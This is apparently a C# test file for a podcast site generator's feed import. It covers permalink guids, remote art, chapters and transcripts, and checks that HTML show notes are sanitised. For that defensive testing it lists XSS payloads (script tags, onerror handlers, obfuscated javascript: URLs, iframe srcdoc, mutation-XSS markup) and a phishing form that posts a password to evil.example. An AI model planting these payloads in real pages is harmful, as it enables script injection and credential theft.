using System.Xml.Linq;
using PodcastSite.Feed;
using PodcastSite.Tests.Support;
using Shouldly;

namespace PodcastSite.Tests.Feed;

/// <summary>
/// The keys a show brought from another host needs so that its feed says what the old one said: permalink guids,
/// blocked episodes, art, chapters and transcripts left at the old host, and notes kept in HTML.
/// </summary>
public sealed class OldHostKeysTests
{
    private static readonly XNamespace Itunes = PodcastFeed.Itunes;
    private static readonly XNamespace Podcast = PodcastFeed.Podcast;
    private static readonly XNamespace Content = PodcastFeed.Content;

    private static string Episode(string frontMatter, string body = "The first episode.") =>
        TestSite.Show
        + $"""

            -- input/episodes/2026-01-15-hello.md --
            ---
            title: Hello
            date: 2026-01-15T10:00:00Z
            guid: hello-guid
            audio: {"{"} url: "https://media.example.com/1.mp3", length: 1000, duration: "30:00" {"}"}
            {frontMatter}
            ---
            {body}
            """;

    private static XElement Item(TestSite site) => XDocument.Parse(site.Text("feed.xml")).Descendants("item").Single();

    [Fact]
    public void A_guid_that_is_the_old_page_address_stays_a_permalink()
    {
        var site = TestSite
            .Build(Episode("guid_is_permalink: true").Replace("guid: hello-guid", "guid: https://old.example.com/episodes/hello/"))
            .ShouldSucceed();

        var guid = Item(site).Element("guid")!;

        guid.Value.ShouldBe("https://old.example.com/episodes/hello/");
        guid.Attribute("isPermaLink")!.Value.ShouldBe("true");
    }

    [Fact]
    public void Without_the_key_a_guid_is_a_permalink_only_when_it_is_the_page_on_this_site()
    {
        var site = TestSite.Build(Episode("").Replace("guid: hello-guid", "guid: https://old.example.com/episodes/hello/")).ShouldSucceed();

        Item(site).Element("guid")!.Attribute("isPermaLink")!.Value.ShouldBe("false");
    }

    [Fact]
    public void Only_a_web_address_can_be_a_permalink_guid()
    {
        var site = TestSite.Build(Episode("guid_is_permalink: true"));

        var error = site.Errors.ShouldHaveSingleItem();
        error
            .ToString()
            .ShouldStartWith(
                "input/episodes/2026-01-15-hello.md(6,20): error: `guid_is_permalink: true` says the guid is the episode's web address, but `hello-guid` is not"
            );
    }

    [Fact]
    public void A_blocked_episode_stays_in_the_feed_asking_Apple_alone_to_leave_it_out()
    {
        var site = TestSite.Build(Episode("block: true")).ShouldSucceed();

        Item(site).Element(Itunes + "block")!.Value.ShouldBe("Yes");
        site.Html("episodes/hello/index.html").QuerySelector("h1").ShouldNotBeNull();
    }

    [Fact]
    public void Art_left_at_the_old_host_is_linked_where_it_is_and_not_checked()
    {
        var fixture = Episode("image: https://old.example.com/art/ep1.jpg").Replace("image: assets/cover.jpg", "image: https://old.example.com/art/cover.jpg");

        var site = TestSite.Build(fixture).ShouldSucceed();

        var feed = XDocument.Parse(site.Text("feed.xml"));
        feed.Root!.Element("channel")!.Element(Itunes + "image")!.Attribute("href")!.Value.ShouldBe("https://old.example.com/art/cover.jpg");
        Item(site).Element(Itunes + "image")!.Attribute("href")!.Value.ShouldBe("https://old.example.com/art/ep1.jpg");
        site.Warnings.ShouldBeEmpty();
    }

    [Fact]
    public void Art_left_at_the_old_host_is_what_pages_show_and_share()
    {
        var site = TestSite
            .Build(Episode("image: https://old.example.com/art/ep1.jpg").Replace("image: assets/cover.jpg", "image: https://old.example.com/art/cover.jpg"))
            .ShouldSucceed();

        var episode = site.Html("episodes/hello/index.html");
        episode.QuerySelector("meta[property='og:image']")!.GetAttribute("content").ShouldBe("https://old.example.com/art/ep1.jpg");
        episode.QuerySelector("script[type='application/ld+json']")!.TextContent.ShouldContain("\"image\":\"https://old.example.com/art/ep1.jpg\"");
        site.Html("index.html").QuerySelector("meta[property='og:image']")!.GetAttribute("content").ShouldBe("https://old.example.com/art/cover.jpg");
    }

    [Fact]
    public void Chapters_left_at_the_old_host_are_what_the_feed_points_at()
    {
        var site = TestSite.Build(Episode("chapters: https://old.example.com/ep1/chapters.json")).ShouldSucceed();

        var chapters = Item(site).Element(Podcast + "chapters")!;
        chapters.Attribute("url")!.Value.ShouldBe("https://old.example.com/ep1/chapters.json");
        chapters.Attribute("type")!.Value.ShouldBe("application/json+chapters");
        site.Has("episodes/hello/chapters.json").ShouldBeFalse();
    }

    [Fact]
    public void Chapters_are_a_list_or_the_address_of_a_chapters_file()
    {
        var site = TestSite.Build(Episode("chapters: Intro at the start"));

        site.Errors.ShouldHaveSingleItem()
            .Message.ShouldBe(
                "`chapters` must be a list of chapters (items starting with `- `) or the http(s) address of a chapters file, not `Intro at the start`"
            );
    }

    [Fact]
    public void Transcripts_left_at_the_old_host_keep_their_type_language_and_use()
    {
        var site = TestSite
            .Build(
                Episode(
                    """
                    transcript:
                      - https://old.example.com/ep1.vtt
                      - { url: "https://old.example.com/ep1/transcript", type: text/html, language: de, rel: notes }
                    """
                )
            )
            .ShouldSucceed();

        var transcripts = Item(site)
            .Elements(Podcast + "transcript")
            .Select(t => $"{t.Attribute("url")!.Value} {t.Attribute("type")!.Value} {t.Attribute("language")!.Value} {t.Attribute("rel")?.Value}")
            .ToList();
        transcripts.ShouldBe(["https://old.example.com/ep1.vtt text/vtt en captions", "https://old.example.com/ep1/transcript text/html de notes"]);
        site.Html("episodes/hello/index.html").QuerySelectorAll("a").Select(a => a.GetAttribute("href")).ShouldContain("https://old.example.com/ep1.vtt");
    }

    [Fact]
    public void A_transcript_whose_address_does_not_tell_its_kind_needs_a_type()
    {
        var site = TestSite.Build(Episode("transcript: https://old.example.com/ep1/transcript"));

        site.Errors.ShouldHaveSingleItem()
            .Message.ShouldBe(
                "cannot tell the kind of transcript `https://old.example.com/ep1/transcript` from its name; write it as `{ url: ..., type: text/vtt }` with its type"
            );
    }

    private const string HtmlNotes = """
        <h3>In this episode</h3><p>Sourdough at <a href="/bakery/" class="x">our bakery</a> &amp; <a href="javascript:alert(1)">a trick</a>.</p><ul><li>flour</li></ul>
        """;

    [Fact]
    public void HTML_notes_reach_the_feed_whole_with_every_link_absolute_and_safe()
    {
        var site = TestSite.Build(Episode("notes_html: true", HtmlNotes)).ShouldSucceed();

        var content = Item(site).Element(Content + "encoded")!.Value;

        content.ShouldStartWith(
            "<h3>In this episode</h3><p>Sourdough at <a href=\"https://example.com/bakery/\" class=\"x\">our bakery</a> &amp; <a>a trick</a>.</p><ul><li>flour</li></ul>"
        );
    }

    [Fact]
    public void HTML_notes_reach_the_feed_without_scripts()
    {
        var site = TestSite.Build(Episode("notes_html: true", "<p onclick=\"steal()\" class=\"a\">Hi<script>steal()</script> there</p>")).ShouldSucceed();

        Item(site).Element(Content + "encoded")!.Value.ShouldStartWith("<p class=\"a\">Hi there</p>");
    }

    [Fact]
    public void HTML_notes_are_shown_on_the_page_as_written_but_for_a_link_that_would_run_script()
    {
        var site = TestSite.Build(Episode("notes_html: true", HtmlNotes)).ShouldSucceed();

        site.Text("episodes/hello/index.html")
            .ShouldContain(
                "<h3>In this episode</h3><p>Sourdough at <a href=\"/bakery/\" class=\"x\">our bakery</a> &amp; <a>a trick</a>.</p><ul><li>flour</li></ul>"
            );
    }

    [Fact]
    public void HTML_notes_from_an_old_feed_cannot_ask_for_a_password_or_cover_the_page()
    {
        const string phishing = """
            <p>Session expired, log in again:</p><form action="https://evil.example/steal" method="post"><input type="password" name="pw"><button formaction="https://evil.example/b">Log in</button></form><div style="position:fixed;top:0;left:0;width:100%;height:100%;z-index:99999;background:#fff">overlay</div><p style="color: red; font-weight: bold">Red text.</p>
            """;

        var site = TestSite.Build(Episode("notes_html: true", phishing)).ShouldSucceed();

        var page = site.Html("episodes/hello/index.html").QuerySelector(".notes")!;
        page.QuerySelectorAll("form, input, button, textarea, select").ShouldBeEmpty();
        page.QuerySelectorAll("[formaction], [action]").ShouldBeEmpty();
        var styles = page.QuerySelectorAll("[style]").Select(e => e.GetAttribute("style")!).ToList();
        styles.ShouldAllBe(style => !style.Contains("position") && !style.Contains("z-index") && !style.Contains("height"), "only text styles stay");
        styles.ShouldContain("color: rgba(255, 0, 0, 1); font-weight: bold");
        page.TextContent.ShouldContain("Session expired, log in again:");
        Item(site).Element(Content + "encoded")!.Value.ShouldNotContain("evil.example");
    }

    [Fact]
    public void HTML_notes_as_plain_text_keep_link_addresses_and_list_bullets_as_Markdown_notes_do()
    {
        const string html = """
            <h3>In this episode</h3><p>We talk pots,
              feed and <a href="https://blight.example.com/">blight</a>.<br>Then tomatoes.</p><ul><li>one</li><li>two <a href="https://x.example/">https://x.example/</a></li></ul><ol start="3"><li>three</li></ol><script>alert(1)</script><p>Bye <img src="a.png" alt="(waves)"></p>
            """;

        PodcastSite
            .Notes.HtmlNotesText.Of(html)
            .ShouldBe(
                """
                In this episode

                We talk pots, feed and blight (https://blight.example.com/).
                Then tomatoes.

                - one
                - two https://x.example/

                3. three

                Bye (waves)
                """
            );
    }

    // What an old feed's author could put in notes that `import` keeps as HTML, each a way browsers run script.
    public static TheoryData<string> Attacks =>
        new()
        {
            "<p>hello <script>alert('x')</script></p>",
            "<img/src=x/onerror=alert('x')>",
            "<a/href=\"javascript:alert('x')\">j</a>",
            "<a href=\"&#106;avascript:alert('x')\">entity</a>",
            "<svg><a xlink:href=\"javascript:alert('x')\"><text>svg</text></a></svg>",
            "<iframe srcdoc=\"<script>alert('x')</script>\"></iframe>",
            "<form action=\"javascript:alert('x')\"><button>go</button></form>",
            "<math><mtext><table><mglyph><style><img src=x onerror=alert('x')>",
        };

    [Theory]
    [MemberData(nameof(Attacks))]
    public void HTML_notes_from_an_old_feed_run_no_script_on_the_page_or_in_the_feed(string attack)
    {
        var site = TestSite.Build(Episode("notes_html: true", $"<p>Before.</p>{attack}<p>After.</p>")).ShouldSucceed();

        var page = site.Text("episodes/hello/index.html");
        var notes = page[page.IndexOf("<div class=\"notes\">", StringComparison.Ordinal)..page.IndexOf("</article>", StringComparison.Ordinal)];
        var item = Item(site);
        foreach (
            var (where, html) in new[]
            {
                ("page", notes),
                ("content:encoded", item.Element(Content + "encoded")!.Value),
                ("description", item.Element("description")!.Value),
            }
        )
        {
            html.ShouldContain("Before.", customMessage: $"the {where} lost the notes");
            // Read as a browser reads it: what would run is an element, an attribute or a URL, not a substring.
            var body = new AngleSharp.Html.Parser.HtmlParser().ParseDocument($"<body>{html}</body>").Body!;
            foreach (var element in body.QuerySelectorAll("*"))
            {
                element.LocalName.ShouldNotBeOneOf(["script", "iframe", "object", "embed"], $"the {where} kept a <{element.LocalName}>");
                foreach (var attribute in element.Attributes)
                {
                    attribute.LocalName.ShouldNotStartWith("on", Case.Insensitive, $"the {where} kept {attribute.Name} on <{element.LocalName}>");
                    attribute.LocalName.ShouldNotBe("srcdoc", $"the {where} kept srcdoc");
                    attribute.Value.Trim().ShouldNotStartWith("javascript:", Case.Insensitive, $"the {where} kept {attribute.Name}=\"{attribute.Value}\"");
                }
            }
        }
    }

    [Fact]
    public void Without_the_key_HTML_in_the_notes_is_reduced_to_its_text_in_the_feed()
    {
        var site = TestSite.Build(Episode("", HtmlNotes)).ShouldSucceed();

        var content = Item(site).Element(Content + "encoded")!.Value;

        content.ShouldNotContain("<h3>");
        content.ShouldContain("In this episode");
    }

    [Fact]
    public void HTML_notes_give_the_summary_from_their_first_paragraph()
    {
        var site = TestSite.Build(Episode("notes_html: true", "<p>Bread &amp; butter,\nslowly.</p><p>More.</p>")).ShouldSucceed();

        site.Result.Site!.Episodes.Single().Summary.ShouldBe("Bread & butter, slowly.");
    }
}
